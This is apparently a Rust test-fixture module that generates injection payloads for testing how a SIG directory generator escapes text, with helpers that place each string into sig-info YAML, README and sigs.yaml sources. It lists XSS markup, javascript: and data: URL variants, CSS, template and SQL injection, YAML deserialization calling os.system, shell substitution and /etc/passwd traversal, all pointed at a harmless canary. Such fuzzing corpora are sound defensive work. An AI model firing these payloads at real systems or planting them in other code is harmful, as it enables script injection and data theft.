//! Strings that would do harm if they were treated as anything but text. Injected code calls
//! `canary()`, and injected requests have `canary` in their URL.

/// Returns all payloads, by category: markup, URLs, styles, Unicode controls, property names,
/// templates, other file formats, and size.
pub fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    all.extend(MARKUP.iter().map(ToString::to_string));
    all.extend(EVENTS.iter().map(|event| {
        format!(
            "<b {event}=canary() tabindex=1 autofocus contenteditable>x</b>\" {event}=\"canary()"
        )
    }));
    all.extend(SCHEMES.iter().map(|scheme| format!("{scheme}canary()//@example.org/canary")));
    all.extend(ADDRESSES.iter().map(ToString::to_string));
    all.extend(STYLES.iter().map(ToString::to_string));
    all.extend(WRITING.iter().map(|mark| format!("ab{mark}cd{mark}{mark}txt.exe")));
    all.extend(NAMES.iter().map(ToString::to_string));
    all.extend(TEMPLATES.iter().map(ToString::to_string));
    all.extend(OTHER_FILES.iter().map(ToString::to_string));
    all.extend(LARGE.iter().map(|(piece, times)| piece.repeat(*times)));
    all
}

const MARKUP: [&str; 62] = [
    "<script>canary()</script>",
    "<SCRIPT SRC=/canary.js></SCRIPT>",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<script\n>canary()</script\n>",
    "<script/x>canary()</script>",
    "<script type=module>import '/canary.js'</script>",
    "<script>/*",
    "</script><script>canary()</script>",
    "</title><script>canary()</script>",
    "</textarea><script>canary()</script>",
    "</style><script>canary()</script>",
    "</template><script>canary()</script>",
    "</noscript><script>canary()</script>",
    "</svg></math><script>canary()</script>",
    "--><script>canary()</script><!--",
    "--!><script>canary()</script>",
    "<!--><img src=x onerror=canary()>-->",
    "]]><script>canary()</script>",
    "<![CDATA[<script>canary()</script>]]>",
    "<?xml version=\"1.0\"?><?xml-stylesheet href=\"/canary.xsl\"?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"/canary\">]>&e;",
    "<img src=x onerror=canary()>",
    "<img src=/canary.png>",
    "<img src=x onerror=canary()//",
    "<IMG \"\"\"><SCRIPT>canary()</SCRIPT>\">",
    "<image src=x onerror=canary()>",
    "<img srcset='/canary.png 1x'>",
    "<picture><source srcset=/canary.png><img></picture>",
    "<svg onload=canary()>",
    "<svg/onload=canary()>",
    "<svg><script>canary()</script></svg>",
    "<svg><script href=/canary.js></script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:canary()><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><image href=1 onerror=canary()/></svg>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.canary()</script>'></iframe></foreignObject></svg>",
    "<math href=javascript:canary()>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:parent.canary()></iframe>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<iframe src=/canary></iframe>",
    "<frameset onload=canary()>",
    "<object data=/canary></object>",
    "<embed src=/canary>",
    "<video><source onerror=canary()></video>",
    "<audio src=x onerror=canary()>",
    "<video poster=/canary.png></video>",
    "<details open ontoggle=canary()>x</details>",
    "<input autofocus onfocus=canary()>",
    "<form action=/canary><button>x</button></form><button form=x formaction=javascript:canary()>",
    "<a href=javascript:canary()>x</a>",
    "<a href='&#106;avascript:canary()'>x</a>",
    "<a ping=/canary href=#>x</a>",
    "<base href=//canary.example/>",
    "<link rel=stylesheet href=/canary.css>",
    "<link rel=prefetch href=/canary>",
    "<meta http-equiv=refresh content='0;url=/canary'>",
    "<style>*{background:url(/canary)}</style>",
    "<template shadowrootmode=open><img src=x onerror=canary()></template>",
    "<sig-info src=/canary.json loading=eager></sig-info>",
    "&lt;img src=x onerror=canary()&gt;&#60;script&#62;canary()&#60;/script&#62;",
    "+ADw-script+AD4-canary()+ADw-/script+AD4- \u{ff1c}script\u{ff1e}canary()",
];

const EVENTS: [&str; 54] = [
    "onabort",
    "onafterprint",
    "onanimationcancel",
    "onanimationend",
    "onanimationiteration",
    "onanimationstart",
    "onauxclick",
    "onbeforeinput",
    "onbeforematch",
    "onbeforetoggle",
    "onblur",
    "oncanplay",
    "onchange",
    "onclick",
    "onclose",
    "oncontentvisibilityautostatechange",
    "oncontextmenu",
    "oncopy",
    "ondblclick",
    "ondrag",
    "ondragend",
    "ondragstart",
    "ondrop",
    "onend",
    "onerror",
    "onfocus",
    "onfocusin",
    "onfocusout",
    "onhashchange",
    "oninput",
    "oninvalid",
    "onkeydown",
    "onkeyup",
    "onload",
    "onloadstart",
    "onmessage",
    "onmousedown",
    "onmouseenter",
    "onmousemove",
    "onmouseover",
    "onpageshow",
    "onpaste",
    "onpointerenter",
    "onpointermove",
    "onpointerover",
    "onpopstate",
    "onresize",
    "onscroll",
    "onscrollend",
    "onselect",
    "onslotchange",
    "ontoggle",
    "ontransitionend",
    "onwheel",
];

const SCHEMES: [&str; 44] = [
    "javascript:",
    "JavaScript:",
    "JAVASCRIPT:",
    " javascript:",
    "\tjavascript:",
    "\njavascript:",
    "\u{1}javascript:",
    "\u{1f}javascript:",
    "\u{a0}javascript:",
    "\u{feff}javascript:",
    "\u{200b}javascript:",
    "\u{202e}javascript:",
    "java\tscript:",
    "java\nscript:",
    "java\r\nscript:",
    "java\u{0}script:",
    "java\u{ad}script:",
    "javascript\t:",
    "javascript\u{ff1a}",
    "javascript&colon;",
    "javascript&#58;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "%6aavascript:",
    "\\x6aavascript:",
    "\\u006aavascript:",
    "j\u{430}vascript:",
    "javascript://https://example.org/%0a",
    "javascript:https://example.org/;",
    "feed:javascript:",
    "view-source:javascript:",
    "jar:javascript:",
    "vbscript:",
    "livescript:",
    "data:text/html,<script>canary()</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==,",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>canary()</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'/>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImNhbmFyeSgpIi8+",
    "data:image/png;charset=x,<svg onload=canary()>",
    "data:image/png;base64,<svg onload=canary()>",
    "data:,",
    "blob:https://example.org/",
    "filesystem:https://example.org/",
];

const ADDRESSES: [&str; 40] = [
    "//canary.example/x",
    "/\\canary.example/x",
    "\\\\canary.example\\x",
    "/canary",
    "../canary",
    "?canary",
    "#canary",
    "https:canary.example",
    "https:/canary.example",
    "https:///canary.example",
    "https:\\\\canary.example",
    "https://\\canary.example",
    "https://example.org@canary.example/",
    "https://example.org:x@canary.example/",
    "https://example.org\\@canary.example/",
    "https://canary.example:99999999/",
    "https://:443/canary",
    "https://.canary",
    "https://%63anary.example%2f@x",
    "https://exa mple.org/canary",
    "https://exa\tmple.org/canary",
    "https://exa\u{202e}mple.org/canary",
    "https://exa\u{200d}mple.org/canary",
    "https://example.org/\" onclick=\"canary()",
    "https://example.org/' onclick='canary()",
    "https://example.org/`onclick=canary()`",
    "https://example.org/<script>canary()</script>",
    "https://example.org/ onclick=canary()",
    "https://example.org/\r\nSet-Cookie: canary=1",
    "mailto:a@example.org?bcc=canary@example.org",
    "mailto:a@example.org,canary@example.org",
    "mailto:a@example.org\r\nBcc: canary@example.org",
    "mailto:<script>canary()</script>@example.org",
    "ftp://canary.example/",
    "file:///etc/passwd#canary",
    "ws://canary.example/",
    "about:blank#canary",
    "chrome://settings/canary",
    "intent://canary#Intent;scheme=https;end",
    "tel:canary",
];

const STYLES: [&str; 12] = [
    "expression(canary())",
    "url(/canary)",
    "url(javascript:canary())",
    "};*{background:url(/canary)}",
    "color:red;background:url(/canary)",
    "@import '/canary.css';",
    "-moz-binding:url(/canary#x)",
    "behavior:url(/canary)",
    "*/;background:url(/canary);/*",
    "\\75rl(/canary)",
    "var(--x,url(/canary))",
    "position:fixed;inset:0;z-index:2147483647",
];

/// Characters that affect how the surrounding text is displayed, or are invisible.
const WRITING: [&str; 30] = [
    "\u{202e}",
    "\u{202d}",
    "\u{202b}",
    "\u{202a}",
    "\u{202c}",
    "\u{2066}",
    "\u{2067}",
    "\u{2068}",
    "\u{2069}",
    "\u{200e}",
    "\u{200f}",
    "\u{61c}",
    "\u{200b}",
    "\u{200c}",
    "\u{200d}",
    "\u{2060}",
    "\u{feff}",
    "\u{ad}",
    "\u{0}",
    "\u{8}",
    "\u{1b}[31m",
    "\u{7f}",
    "\u{85}",
    "\u{2028}",
    "\u{2029}",
    "\u{fffe}",
    "\u{e0041}",
    "\u{10ffff}",
    "\u{fdfa}",
    "\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}\u{30d}\u{30e}\u{30f}\u{310}\u{311}\u{312}\u{313}\u{314}\u{315}\u{316}\u{317}\u{318}\u{319}\u{31a}\u{31b}",
];

const NAMES: [&str; 14] = [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "__defineGetter__",
    "then",
    "length",
    "item",
    "innerHTML",
    "onclick",
    "undefined",
    "NaN",
];

const TEMPLATES: [&str; 14] = [
    "{{constructor.constructor('canary()')()}}",
    "{{$on.constructor('canary()')()}}",
    "{{_openBlock.constructor('canary()')()}}",
    "${canary()}",
    "<%= canary() %>",
    "#{canary()}",
    "{% canary %}",
    "[[canary()]]",
    "{@html canary()}",
    "*{canary()}",
    "%s%n%x%p",
    "{0}{1}{}{name}",
    "$1$&$`",
    "\\0\\1\\u{41}",
];

const OTHER_FILES: [&str; 20] = [
    "=HYPERLINK(\"https://canary.example\")",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:https://canary.example\r\nEND:VALARM",
    "x\nATTENDEE:mailto:canary@example.org",
    "x\\nURL:https://canary.example",
    "x;VALUE=URI:https://canary.example,y",
    "\r\n\r\n<script>canary()</script>",
    "x\r\nLocation: /canary",
    "@canary #1 !1 GH-1",
    "![x](/canary.png) [x](javascript:canary()) <https://canary.example>",
    "| a | b |\n| - | - |\n| <img src=/canary> |",
    "```\n</code></pre><script>canary()</script>",
    "[x]: javascript:canary()\n[x]",
    "---\n- !!js/function 'canary()'\n",
    "&a [*a, *a, *a]",
    "!!python/object/apply:os.system [canary]",
    "{\"@context\": \"https://canary.example\", \"@type\": \"</script><script>canary()\"}",
    "../../../../etc/passwd",
    "$(canary)`canary`;canary|canary",
    "' OR 1=1; DROP TABLE sigs; --",
    "%00%0d%0a%3cscript%3ecanary()%3c/script%3e",
];

/// Strings that cost time or space.
const LARGE: [(&str, usize); 8] = [
    ("A", 4_000),
    ("<", 20_000),
    ("[", 20_000),
    ("\u{fdfa}", 3_000),
    ("e\u{301}", 10_000),
    ("\u{202e}", 10_000),
    ("a b\n\n", 5_000),
    ("🧑‍🧑‍🧒‍🧒", 1_000),
];

/// Returns a SIG's sources with a text in every place that can hold one: sig-info.yaml and a
/// repository's file (as JSON, a subset of YAML) and README.md.
pub fn sources(text: &str) -> [(&'static str, String); 3] {
    let quoted = serde_json::Value::from(text).to_string();
    // An email address has a host and no blanks.
    let name: String = text.split_whitespace().collect();
    let address = serde_json::Value::from(format!("{name}@example.org")).to_string();
    let person = format!(
        r#"{{"gitee_id": {quoted}, "atomgit_id": {quoted}, "github_id": {quoted}, "name": {quoted},
            "organization": {quoted}, "email": {quoted}}}, {{"gitee_id": "ada", "name": {quoted},
            "organization": {quoted}, "email": {address}}}"#
    );
    let info = format!(
        r#"{{"name": {quoted}, "description": {quoted}, "created_on": {quoted}, "mailing_list": {quoted},
            "meeting_url": {quoted}, "meeting_start": {quoted}, "meeting_exceptions": [{quoted}], "mature_level": {quoted}, "mentors": [{person}],
            "maintainers": [{person}], "security_contacts": [{person}], {quoted}: {quoted},
            "repositories": [{{"repo": [{quoted}, "openeuler/a"], "committers": [{person}],
            "contributors": [{person}], "admins": [{person}]}}],
            "branches": [{{"repo_branch": [{quoted}], "keeper": [{person}]}}]}}"#
    );
    let readme = format!(
        "# {text}\n\n## Mission\n\n{text}\n\n## Scope\n\n- {text}\n- [{text}]({text})\n\
         - **Code {text}**: all\n- See [the {text} charter](https://example.org/c)\n\n\
         ## Documents\n\n- [{text}](https://example.org/{text})\n- [document]({text})\n\n\
         ## Meetings\n\n- Every Tuesday, 16:00-17:30. {text}\n- Topics: {text}\n- Minutes: {text}\n\
         - Jointly with the {text} SIG\n- [{text}]({text})\n\n## Members\n\n### Maintainers\n\n- [@{text}](https://gitee.com/{text})\n\
         - {text}\n- [@grace](https://gitee.com/grace) {text}\n\n| [@alan](https://gitee.com/alan) |\n\
         | --- |\n| <img src=\"{text}\" alt=\"{text}\"> |\n\n## Contacts\n\n- Mail: {text}\n\
         - Maillist: list@example.org {text}\n- Chat: {text}\n\
         - Chat: [{text}](https://example.org/chat)\n- [{text}]({text})\n\n## Repositories\n\n\
         - https://gitee.com/openeuler/{text}\n- {text}\n- https://gitee.com/openeuler/b\n\n\
         ## Roadmap\n\n- 2026.06 ({text}): {text}; {text}\n- {text}: {text}\n"
    );
    let repository = format!(
        r#"{{"name": "a", "rename_from": {quoted}, "description": {quoted}, "upstream": {quoted},
            "branches": [{{"name": {quoted}, "type": {quoted}, "create_from": {quoted}}}]}}"#
    );
    [("sig-info.yaml", info), ("README.md", readme), ("openeuler/a/a.yaml", repository)]
}

/// Returns an entry of sigs.yaml with a text in every place that can hold one, except its folder.
pub fn entry(folder: &str, text: &str) -> String {
    // All entries share one file and must not break each other, so escape every special character.
    let escaped: String = text
        .chars()
        .map(|c| match c {
            ' '..='~' if c != '"' && c != '\\' => c.to_string(),
            c => format!("\\U{:08x}", u32::from(c)),
        })
        .collect();
    let quoted = format!("\"{escaped}\"");
    let person = format!(
        r#"{{"github": {quoted}, "name": {quoted}, "company": {quoted}, "email": {quoted},
            "term": {{"start": {quoted}, "end": {quoted}}}}}, {{"github": "ada", "name": {quoted}}}"#
    );
    let meeting = format!(
        r#"{{"description": {quoted}, "day": "Tuesday", "time": "16:00", "tz": "UTC", "frequency": "weekly",
            "url": {quoted}, "archive_url": {quoted}, "recordings_url": {quoted}}},
            {{"description": {quoted}, "day": {quoted}, "time": {quoted}, "tz": {quoted}, "frequency": {quoted}}}"#
    );
    let contact = format!(
        r#"{{"slack": {quoted}, "mailing_list": {quoted}, "private_mailing_list": {quoted},
            "teams": [{{"name": {quoted}, "description": {quoted}}}], "liaison": {{"github": "bob", "name": {quoted}}}}}"#
    );
    format!(
        r#"{{"dir": "{folder}", "name": {quoted}, "mission_statement": {quoted}, "charter_link": {quoted},
            "label": {quoted}, "leadership": {{"chairs": [{person}], "tech_leads": [{person}],
            "emeritus_leads": [{person}]}}, "meetings": [{meeting}], "contact": {contact},
            "stakeholder_sigs": [{quoted}], "subprojects": [{{"name": {quoted}, "description": {quoted},
            "owners": [{quoted}, "https://github.com/example/a/blob/main/OWNERS"], "leads": [{person}],
            "meetings": [{meeting}], "contact": {contact}}}]}}"#
    )
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn payloads_are_many_and_unique() {
        let all = payloads();
        assert!(all.len() >= 200, "{}", all.len());
        assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), all.len());
    }
}
